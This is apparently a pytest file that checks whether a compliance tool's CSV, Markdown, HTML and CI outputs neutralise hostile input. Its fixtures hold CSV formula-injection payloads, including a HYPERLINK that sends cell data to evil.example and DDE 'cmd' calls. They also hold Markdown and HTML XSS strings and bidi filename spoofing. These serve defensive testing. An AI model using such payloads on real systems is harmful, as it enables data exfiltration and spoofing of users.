"""Safety of the outputs (issue 12, defects 1-4): end to end through the CLI.

* CSV: no cell a spreadsheet would evaluate, no row split by a CR (OWASP CSV injection);
* a project that fails to load is an error in every CI format, alone and in a portfolio;
* ``check --format md`` is inert on GitHub (no image, mention, link or HTML from evidence);
* control and direction characters are made visible in every format but JSON.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml
from helpers import AS_OF, SAMPLES, cli, make_hostile_project, validate_sarif

from mlcompliance.render.common import md_code, md_text, visible
from mlcompliance.render.csv_format import INPUT_ERROR_RULE, safe_cell

BROKEN = SAMPLES / "broken-fraud-alerts"
BROKEN_AT = ("model_card.yaml", 10)     # risk.tier: "hgh" (sample_projects/broken-fraud-alerts/README.md)

CSV_PAYLOADS = [
    '=HYPERLINK("https://evil.example/x?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "\r=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=2+2",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def _named(root: Path, name: str) -> Path:
    cfg = yaml.safe_load((root / "mlcompliance.yaml").read_text(encoding="utf-8"))
    cfg["project"]["name"] = name
    (root / "mlcompliance.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return root


def _check(*args: object) -> tuple[int, str]:
    res = cli("check", *args, "--as-of", AS_OF)
    return res.exit_code, res.stdout


# --- 1. CSV formula and row injection -----------------------------------------------------------

@pytest.fixture(scope="module")
def csv_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile project with CSV payloads in every echoed string; its name starts with a formula."""
    root = make_hostile_project(tmp_path_factory.mktemp("csv"), CSV_PAYLOADS)
    card = yaml.safe_load((root / "model_card.yaml").read_text(encoding="utf-8"))
    card["model_details"]["version"] = CSV_PAYLOADS[1]        # not SemVer: echoed whole as the observed value
    (root / "model_card.yaml").write_text(yaml.safe_dump(card, sort_keys=False), encoding="utf-8")
    return _named(root, CSV_PAYLOADS[0])


def _cells_are_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value.startswith(FORMULA):
                assert re.fullmatch(r"-?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", value), value


def test_safe_cell_neutralises_each_formula_start_and_keeps_numbers():
    assert safe_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1+1") == "'<U+000D>=1+1"          # CR shown, and still not a formula
    assert safe_cell("\n=1") == "'\n=1"
    assert safe_cell("-2+3") == "'-2+3"
    assert [safe_cell(v) for v in ("-0.25", "-3", "-1e-05", "12", "a=b")] == ["-0.25", "-3", "-1e-05", "12", "a=b"]
    assert safe_cell(None) == "" and safe_cell(7) == "7"


def test_csv_of_a_hostile_project_is_inert_and_keeps_its_rows(csv_project):
    code, out = _check(csv_project, "--format", "csv")
    assert code == 1
    _, js = _check(csv_project, "--format", "json")
    findings = json.loads(js)["findings"]
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == len(findings) + 1                       # no row split by a CR or LF
    assert all(len(r) == len(rows[0]) for r in rows)
    _cells_are_inert(rows)
    name = rows[0].index("project_name")
    assert {r[name] for r in rows[1:]} == {"'" + CSV_PAYLOADS[0]}
    # every field is quoted, so a line break stays inside its cell
    assert all(line.startswith('"') for line in out.splitlines() if line and not line.startswith(("=", "'")))
    assert out.count("\r") == 0
    observed = rows[0].index("observed")
    assert "'" + CSV_PAYLOADS[1] in {r[observed] for r in rows[1:]}   # evidence reached a cell, neutralised


def test_portfolio_csv_is_inert_too(csv_project, tmp_path):
    shutil.copytree(csv_project, tmp_path / "p1")
    shutil.copytree(SAMPLES / "invoice-late-payment", tmp_path / "p2")
    code, out = _check(tmp_path / "p1", tmp_path / "p2", "--format", "csv", "--jobs", "1")
    assert code == 1
    rows = list(csv.reader(io.StringIO(out)))
    _, lines = _check(tmp_path / "p1", tmp_path / "p2", "--format", "json", "--jobs", "1")
    n = sum(len(json.loads(line)["result"]["findings"]) for line in lines.splitlines()
            if json.loads(line).get("kind") == "project")
    assert len(rows) == n + 1
    _cells_are_inert(rows)


# --- 2. a project that fails to load is an error in every format -------------------------------

@pytest.fixture(scope="module")
def portfolio_with_broken(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("broken")
    shutil.copytree(BROKEN, work / "broken-fraud-alerts")
    shutil.copytree(SAMPLES / "invoice-late-payment", work / "invoice")
    return work


def _run_in(cwd: Path, *args: object) -> tuple[int, str]:
    import os
    here = os.getcwd()
    os.chdir(cwd)
    try:
        return _check(*args)
    finally:
        os.chdir(here)


PORTFOLIO = ("broken-fraud-alerts", "invoice")
ALONE = ("--recursive", "only")


@pytest.fixture(scope="module")
def alone_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("alone")
    shutil.copytree(BROKEN, work / "only" / "broken-fraud-alerts")
    return work


def _where(kind: str) -> str:
    prefix = "broken-fraud-alerts/" if kind != "alone" else "only/broken-fraud-alerts/"
    return prefix + BROKEN_AT[0]


CASES = ["portfolio", "alone", "single"]


def _run_case(kind: str, fmt: str, portfolio_with_broken: Path, alone_dir: Path) -> str:
    if kind == "portfolio":
        code, out = _run_in(portfolio_with_broken, *PORTFOLIO, "--format", fmt, "--jobs", "1")
    elif kind == "alone":
        code, out = _run_in(alone_dir, *ALONE, "--format", fmt, "--jobs", "1")
    else:
        code, out = _run_in(portfolio_with_broken, "broken-fraud-alerts", "--format", fmt)
    assert code == 2
    return out


@pytest.mark.parametrize("kind", CASES)
def test_junit_has_an_error_testcase(kind, portfolio_with_broken, alone_dir):
    root = ET.fromstring(_run_case(kind, "junit", portfolio_with_broken, alone_dir))
    assert int(root.get("errors")) >= 1 and int(root.get("tests")) >= 1
    errors = [c for c in root.iter("testcase") if c.find("error") is not None]
    assert len(errors) == 1
    case = errors[0]
    assert case.get("file") == _where(kind) and case.get("line") == "10"
    assert case.find("error").get("type") == "InputError"
    assert '"hgh" is not allowed' in case.find("error").get("message")
    assert sum(int(s.get("errors")) for s in root.iter("testsuite")) == int(root.get("errors"))
    assert sum(int(s.get("tests")) for s in root.iter("testsuite")) == int(root.get("tests"))


@pytest.mark.parametrize("kind", CASES)
def test_sarif_has_an_error_result_and_a_failed_invocation(kind, portfolio_with_broken, alone_dir):
    doc = json.loads(_run_case(kind, "sarif", portfolio_with_broken, alone_dir))
    validate_sarif(doc)
    run = doc["runs"][0]
    errors = [r for r in run["results"] if r["ruleId"] == INPUT_ERROR_RULE]
    assert len(errors) == 1 and errors[0]["level"] == "error"
    rules = run["tool"]["driver"]["rules"]
    assert rules[errors[0]["ruleIndex"]]["id"] == INPUT_ERROR_RULE
    loc = errors[0]["locations"][0]["physicalLocation"]
    expected = _where(kind)      # single too: under the SARIF root (here the working directory), as a checked project's
    assert loc["artifactLocation"] == {"uri": expected, "uriBaseId": "PROJECTROOT"}
    assert loc["region"] == {"startLine": 10}
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is False
    (note,) = invocation["toolExecutionNotifications"]
    assert note["level"] == "error" and '"hgh" is not allowed' in note["message"]["text"]
    assert note["locations"][0]["physicalLocation"]["region"]["startLine"] == 10


@pytest.mark.parametrize("kind", CASES)
def test_csv_has_an_error_row(kind, portfolio_with_broken, alone_dir):
    rows = list(csv.DictReader(io.StringIO(_run_case(kind, "csv", portfolio_with_broken, alone_dir))))
    errors = [r for r in rows if r["rule_id"] == INPUT_ERROR_RULE]
    assert len(errors) == 1
    assert errors[0]["outcome"] == "error" and errors[0]["file"] == _where(kind) and errors[0]["line"] == "10"
    if kind == "portfolio":
        assert {r["project"] for r in rows} == {"broken-fraud-alerts", "invoice"}


@pytest.mark.parametrize("kind", CASES)
def test_annotations_have_an_error_at_the_input_error(kind, portfolio_with_broken, alone_dir):
    out = _run_case(kind, "github", portfolio_with_broken, alone_dir)
    lines = out.splitlines()
    # a single project's annotations name files relative to the project, as its findings' do
    where = BROKEN_AT[0] if kind == "single" else _where(kind)
    assert lines[0].startswith(f"::error file={where},line=10,title=mlcompliance input error::")
    assert '"hgh" is not allowed' in lines[0]
    assert sum(1 for line in lines if line.startswith("::error") and "input error" in line) == 1


@pytest.mark.parametrize("kind", ["portfolio", "alone"])
def test_portfolio_html_counts_and_lists_the_broken_project(kind, portfolio_with_broken, alone_dir):
    html = _run_case(kind, "html", portfolio_with_broken, alone_dir)
    n = 2 if kind == "portfolio" else 1
    assert f"<h1>{n} project{'s' if n > 1 else ''}</h1>" in html
    assert f"<title>mlcompliance portfolio report: {n} project" in html
    matrix = re.search(r'<section id="matrix">.*?</table>', html, re.S).group(0)
    body = re.search(r"<tbody>(.*?)</tbody>", matrix, re.S).group(1)
    assert body.count("<tr") == n                       # one row per project, broken or not
    assert 'class="input-error"' in body and "error: not checked" in body
    assert f"{_where(kind)}:10" in body


@pytest.mark.parametrize("kind", CASES)
def test_markdown_shows_a_failure(kind, portfolio_with_broken, alone_dir):
    out = _run_case(kind, "md", portfolio_with_broken, alone_dir)
    head = out.splitlines()[0]
    assert head.startswith("## ❌") and "⚠" not in out
    assert "ERROR" in out and "input error" in out
    assert '"hgh" is not allowed' in out


def test_json_and_text_of_a_broken_project_alone_are_unchanged(portfolio_with_broken):
    for fmt in ("json", "text"):
        code, out = _run_in(portfolio_with_broken, "broken-fraud-alerts", "--format", fmt)
        assert code == 2 and out == ""


def test_saved_portfolio_with_a_broken_project_re_renders_byte_identical(portfolio_with_broken, tmp_path):
    code, saved = _run_in(portfolio_with_broken, *PORTFOLIO, "--format", "json", "--jobs", "1")
    assert code == 2
    (tmp_path / "p.jsonl").write_text(saved, encoding="utf-8")
    for fmt in ("junit", "sarif", "csv", "github", "md", "html", "text"):
        _, direct = _run_in(portfolio_with_broken, *PORTFOLIO, "--format", fmt, "--jobs", "1")
        res = cli("render", tmp_path / "p.jsonl", "--format", fmt)
        assert res.stdout == direct, fmt


# --- 3. Markdown is inert on GitHub -------------------------------------------------------------

MD_PAYLOADS = [
    "![x](https://evil.example/p.png)",
    "@org/team and @octocat",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "name with ` and `` ticks",
    "see https://evil.example/track and www.evil.example",
    "<!-- hidden --> **bold** _em_ ~~del~~ | pipe",
]


def test_md_text_leaves_no_markup():
    for p in MD_PAYLOADS:
        out = md_text(p)
        assert "<" not in out and ">" not in out
        assert not re.search(r"(?<!\\)[\[\]`*_~|!]", out), out      # Markdown punctuation is escaped
        assert not re.search(r"@\w", out)                            # no @mention
        assert "://" not in out and not re.search(r"(?i)www\.", out)  # no bare URL
    assert md_text("a\u202eb\x1b[2J") == "a&lt;U+202E&gt;b&lt;U+001B&gt;\\[2J"


def test_md_code_shows_paths_literally():
    assert md_code("data/<train>.csv") == "`data/<train>.csv`"          # no &lt; in a code span
    assert md_code("a`b") == "``a`b``"
    assert md_code("``x") == "``` ``x ```"
    assert md_code("a|b") == "`a\\|b`" and md_code("a|b", table=False) == "`a|b`"


def _gfm(text: str) -> str:
    """HTML of GitHub-flavoured Markdown (markdown-it-py: CommonMark, tables, strikethrough, and
    linkify when installed), a stand-in for GitHub's renderer."""
    from markdown_it import MarkdownIt
    md = MarkdownIt("gfm-like") if _has_linkify() else MarkdownIt("commonmark").enable(["table", "strikethrough"])
    return md.render(text)


def _has_linkify() -> bool:
    try:
        import linkify_it  # noqa: F401
    except ImportError:
        return False
    return True


@pytest.fixture(scope="module")
def md_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make_hostile_project(tmp_path_factory.mktemp("md"), MD_PAYLOADS)
    return _named(root, "Proj ` " + MD_PAYLOADS[0] + " " + MD_PAYLOADS[1])


def test_check_markdown_is_inert(md_project):
    pytest.importorskip("markdown_it")
    code, out = _check(md_project, "--format", "md")
    assert code == 1
    html = _gfm(out)
    assert "<img" not in html and "<a " not in html and "javascript:" not in html.replace("javascript:alert", "")
    assert "onerror" not in re.sub(r"&lt;img src=x onerror=alert\(1\)&gt;", "", html)
    # fenced code blocks (the evidence excerpts) and code spans are shown literally: never linked
    unfenced = re.sub(r"^(`{3,})\n.*?\n\1$", "", out, flags=re.M | re.S)
    assert "<pre><code>" in html or "Evidence excerpts" not in out
    prose = re.sub(r"(`+).*?\1", "", unfenced)
    assert not re.search(r"@\w", prose)                     # GitHub would link @org/team, @octocat
    assert "&lt;" not in "".join(re.findall(r"<code>(.*?)</code>", html))  # code spans show paths as they are
    # the one structural HTML the report writes itself
    tags = set(re.findall(r"<([a-z]+)", unfenced))
    assert tags <= {"details", "summary"}, tags
    assert "@&#8203;org/team" in out


# --- 4. bidi and control characters, every format ----------------------------------------------

CONTROLS = {
    "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "marks": "\u200e\u200f\u061c",
    "c0": "\x00\x08\x1b[2J\x07",
    "cr": "\rverdict: COMPLIANT",
    "c1": "\x85\x9b",
}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def control_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    payloads = [f"{k} [{v}] end" for k, v in CONTROLS.items()]
    root = make_hostile_project(tmp_path_factory.mktemp("ctl"), payloads)
    return _named(root, "Title \u202eFDP.exe\u202c " + "".join(CONTROLS.values()))


def test_visible_names_every_character_class():
    assert visible("a\u202eb") == "a<U+202E>b"
    assert visible("\x00\x08\x1b\r\x85\u200f\u061c\u2066") == \
        "<U+0000><U+0008><U+001B><U+000D><U+0085><U+200F><U+061C><U+2066>"
    assert visible("tab\tline\nnext") == "tab\tline\nnext"
    assert visible("a\nb", newlines=False) == "a<U+000A>b"
    assert visible("plain ünïcode ✓") == "plain ünïcode ✓"


@pytest.mark.parametrize("fmt", ["text", "md", "html", "sarif", "junit", "csv", "github"])
def test_no_raw_control_or_direction_character_in_any_format(fmt, control_project):
    code, out = _check(control_project, "--format", fmt)
    assert code == 1
    assert not RAW.search(out), (fmt, RAW.search(out))
    assert "<U+202E>" in out or "&lt;U+202E&gt;" in out     # made visible, not dropped
    assert "U+001B" in out


def test_json_keeps_the_evidence_as_it_is(control_project):
    _, out = _check(control_project, "--format", "json")
    assert json.loads(out)["project"]["name"].startswith("Title \u202eFDP.exe")


def test_terminal_verdict_cannot_be_overwritten(control_project):
    _, out = _check(control_project, "--format", "text")
    assert "\r" not in out and "\x08" not in out and "\x1b" not in out
    verdicts = [line for line in out.splitlines() if line.startswith("verdict:")]
    assert verdicts == [out.splitlines()[-1]] and "NON-COMPLIANT" in verdicts[0]


def test_html_title_is_not_reversed(control_project):
    _, out = _check(control_project, "--format", "html")
    title = re.search(r"<title>(.*?)</title>", out, re.S).group(1)
    assert "&lt;U+202E&gt;FDP.exe&lt;U+202C&gt;" in title


def test_annotations_carry_no_raw_escape_or_nul(control_project):
    _, out = _check(control_project, "--format", "github")
    assert "\x1b" not in out and "\x00" not in out
    for line in out.splitlines():
        assert line.startswith(("::error ", "::warning ", "::notice "))


def test_portfolio_formats_make_controls_visible(control_project, tmp_path):
    shutil.copytree(control_project, tmp_path / "ctl")
    for fmt in ("text", "md", "html", "sarif", "junit", "csv", "github"):
        code, out = _run_in(tmp_path, "--recursive", ".", "--format", fmt, "--jobs", "1")
        assert code == 1, fmt
        assert not RAW.search(out), (fmt, RAW.search(out))


def test_every_output_of_a_broken_project_reports_the_error(portfolio_with_broken, tmp_path):
    code, _ = _run_in(portfolio_with_broken, "broken-fraud-alerts", "--format", "junit", "-o", tmp_path / "r.xml",
                      "-o", f"sarif={tmp_path / 'r.sarif'}", "-o", f"csv={tmp_path / 'r.csv'}",
                      "-o", f"json={tmp_path / 'r.json'}")
    assert code == 2
    assert ET.parse(tmp_path / "r.xml").getroot().get("errors") == "1"
    doc = json.loads((tmp_path / "r.sarif").read_text(encoding="utf-8"))
    validate_sarif(doc)
    assert doc["runs"][0]["invocations"][0]["executionSuccessful"] is False
    assert INPUT_ERROR_RULE in (tmp_path / "r.csv").read_text(encoding="utf-8")
    assert not (tmp_path / "r.json").exists()        # JSON has no error document: stderr and exit 2


def test_sarif_help_markdown_of_a_hostile_pack_is_inert(tmp_path):
    pytest.importorskip("markdown_it")
    from helpers import OWNER_RULE, make_pack
    rule = dict(OWNER_RULE, title="Owner " + MD_PAYLOADS[0] + " " + MD_PAYLOADS[3],
                remediation="Fix " + MD_PAYLOADS[2] + " " + MD_PAYLOADS[1] + " " + MD_PAYLOADS[5])
    make_pack(tmp_path / "packs", rules=[rule])
    project = shutil.copytree(SAMPLES / "invoice-late-payment", tmp_path / "p")
    cfg = yaml.safe_load((project / "mlcompliance.yaml").read_text(encoding="utf-8"))
    cfg["packs"] = {"acme": ">=1.0"}
    (project / "mlcompliance.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False), encoding="utf-8")
    code, out = _check(project, "--format", "sarif", "--policy-path", tmp_path / "packs")
    assert code in (0, 1)
    (acme,) = [r for r in json.loads(out)["runs"][0]["tool"]["driver"]["rules"] if r["id"] == "ACME-OWNER"]
    html = _gfm(acme["help"]["markdown"])
    assert "<img" not in html and "<a " not in html and "<strong>Remediation:</strong>" in html
    assert not re.search(r"@\w", acme["help"]["markdown"])
